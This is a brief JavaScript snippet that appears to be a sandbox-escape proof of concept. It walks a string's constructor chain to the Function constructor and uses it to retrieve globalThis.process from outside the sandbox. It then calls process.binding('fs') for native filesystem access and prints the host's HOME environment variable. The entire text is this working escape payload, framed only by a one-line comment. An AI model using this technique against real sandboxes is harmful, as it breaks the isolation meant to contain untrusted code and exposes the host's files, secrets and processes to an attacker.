// class-walk: a string's constructor chain leads to Function and globalThis.process
const p = ''.constructor.constructor('return globalThis.process')();
p.binding('fs');
console.log(p.env.HOME);
